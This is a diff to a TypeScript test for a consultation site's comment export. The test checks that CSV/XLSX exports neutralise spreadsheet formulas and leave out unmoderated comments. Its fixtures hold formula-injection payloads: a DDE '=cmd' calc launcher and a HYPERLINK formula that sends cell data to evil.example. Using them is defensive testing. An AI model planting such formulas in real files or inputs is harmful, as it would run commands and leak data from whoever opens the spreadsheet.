@@ -313,16 +313,30 @@ forEachEngine('drafts open for comment', (engine) => {
     }
   });
 
-  test('the comments export to CSV and XLSX with every comment, for moderators only', async () => {
+  test('the comments export to CSV and XLSX, moderated ones only unless asked, with formulas neutralised, for moderators only', async () => {
+    // A citizen's text that a spreadsheet would run, one moderated and one nobody has looked at.
+    const insert = (body: string, status: 'approved' | 'pending') =>
+      t.db.insertInto('consultation_comments').values({ site_id: b.site.id, consultation_id: id, part: null, name: '=cmd|\' /C calc\'!A0', email: 'congthuc@example.vn', organisation: '@SUM(1+1)', body, status, moderated_by_user_id: null, moderated_at: null, moderation_note: null, response_kind: null, response: null, personal_data_erased_at: null, created_at: t.clock.now().toISOString() }).execute();
+    await insert('-2+3 là góp ý có dấu trừ ở đầu', 'approved');
+    await insert('=HYPERLINK("http://evil.example/?d="&C2,"Xem chi tiết")', 'pending');
     const secretariat = await agent(b, 'secretariat');
+    assert.match((await secretariat.get(`/admin/consultations/${id}/comments`)).body, /comments\.csv\?chua-kiem-duyet=1/, 'the page offers the export with unmoderated comments');
+    const moderated = 4 + ADDRESS_LIMIT.max;
     for (const kind of ['csv', 'xlsx']) {
       const res = await secretariat.get(`/admin/consultations/${id}/comments.${kind}`);
       assert.equal(res.statusCode, 200);
       assert.match(String(res.headers['content-disposition']), new RegExp(`filename="y-kien-${slug}\\.${kind}"`));
+      if (kind === 'csv') {
+        assert.ok(res.body.includes(`'=cmd|`) && res.body.includes(`'@SUM(1+1)`) && res.body.includes(`'-2+3 là góp ý`), 'formula-like text is prefixed with an apostrophe');
+        assert.ok(!/(^|,)"?[=+@-]/m.test(res.body.replace(/^\ufeff/, '')), 'no cell starts with a formula character');
+        assert.ok(!res.body.includes('HYPERLINK'), 'an unmoderated comment is not exported by default');
+      }
       const table = await readTable(res.rawPayload);
       assert.deepEqual(table.headers.slice(0, 6), ['STT', 'Phần của dự thảo', 'Họ và tên', 'Thư điện tử', 'Cơ quan, tổ chức', 'Nội dung ý kiến']);
-      assert.equal(table.rows.length, 3 + ADDRESS_LIMIT.max);
+      assert.equal(table.rows.length, moderated);
+      assert.ok(table.rows.every((r) => r.cells['Trạng thái'] !== 'Chưa kiểm duyệt'));
       const first = table.rows[0]!.cells;
+      assert.equal(first['STT'], '1', 'numbers stay numbers');
       assert.equal(first['Họ và tên'], PEOPLE[0]!.name);
       assert.equal(first['Thư điện tử'], PEOPLE[0]!.email);
       assert.equal(first['Cơ quan, tổ chức'], PEOPLE[0]!.organisation);
@@ -330,15 +344,26 @@ forEachEngine('drafts open for comment', (engine) => {
       assert.equal(first['Trạng thái'], 'Đã duyệt');
       assert.equal(first['Tiếp thu / giải trình'], 'Tiếp thu');
       assert.equal(table.rows[2]!.cells['Trạng thái'], 'Không duyệt');
+
+      const all = await secretariat.get(`/admin/consultations/${id}/comments.${kind}?chua-kiem-duyet=1`);
+      assert.equal(all.statusCode, 200);
+      assert.match(String(all.headers['content-disposition']), new RegExp(`filename="y-kien-${slug}-gom-chua-kiem-duyet\\.${kind}"`));
+      const withPending = await readTable(all.rawPayload);
+      assert.equal(withPending.rows.length, moderated + 1);
+      const pending = withPending.rows.at(-1)!.cells;
+      assert.equal(pending['Trạng thái'], 'Chưa kiểm duyệt', 'marked as such');
+      assert.equal(pending['Nội dung ý kiến'], '=HYPERLINK("http://evil.example/?d="&C2,"Xem chi tiết")', 'read back as typed');
     }
-    assert.ok((await t.db.selectFrom('audit_log').select('action').where('site_id', '=', b.site.id).where('action', '=', 'consultation.export').execute()).length >= 2, 'exports are audited');
+    const audit = await t.db.selectFrom('audit_log').select('details').where('site_id', '=', b.site.id).where('action', '=', 'consultation.export').execute();
+    assert.equal(audit.length, 4, 'exports are audited');
+    assert.equal(audit.filter((a) => JSON.parse(a.details).includePending === true).length, 2);
   });
 
   test('a responder and a contributor are refused the back office of consultations', async () => {
     const before = JSON.stringify(await comments());
     for (const role of ['responder', 'contributor'] as const) {
       const person = await agent(b, role);
-      for (const url of ['/admin/consultations', `/admin/consultations/${id}`, `/admin/consultations/${id}/comments`, `/admin/consultations/${id}/comments.csv`]) {
+      for (const url of ['/admin/consultations', `/admin/consultations/${id}`, `/admin/consultations/${id}/comments`, `/admin/consultations/${id}/comments.csv`, `/admin/consultations/${id}/comments.xlsx?chua-kiem-duyet=1`]) {
         assert.equal((await person.get(url)).statusCode, 403, `${role} GET ${url}`);
       }
       assert.equal((await person.post('/admin/consultations', draftForm())).statusCode, 403);
